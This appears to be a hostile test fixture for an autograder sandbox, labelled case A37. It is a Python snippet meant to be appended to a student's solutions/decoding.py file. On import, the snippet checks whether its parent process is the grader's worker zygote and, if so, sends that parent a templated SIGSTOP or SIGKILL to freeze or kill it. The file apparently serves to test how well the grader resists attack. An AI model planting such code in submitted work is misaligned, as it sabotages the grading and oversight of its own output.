# hostile: appended to solutions/decoding.py
# A37: signal the zygote this worker was forked from (its parent, a process of the same user, whose command line is
# the worker's: autograder/worker/main.py) while being imported, with @@SIGNAL@@: SIGSTOP leaves it unable to answer,
# SIGKILL ends it. Every worker of the part whose parent is a zygote does it again.
import os as _os
import signal as _signal

try:
    with open(f"/proc/{_os.getppid()}/cmdline", "rb") as _f:
        _parent = _f.read()
    if b"worker/main.py" in _parent and b"worker/init.py" not in _parent:
        _os.kill(_os.getppid(), getattr(_signal, "@@SIGNAL@@"))
except OSError:
    pass
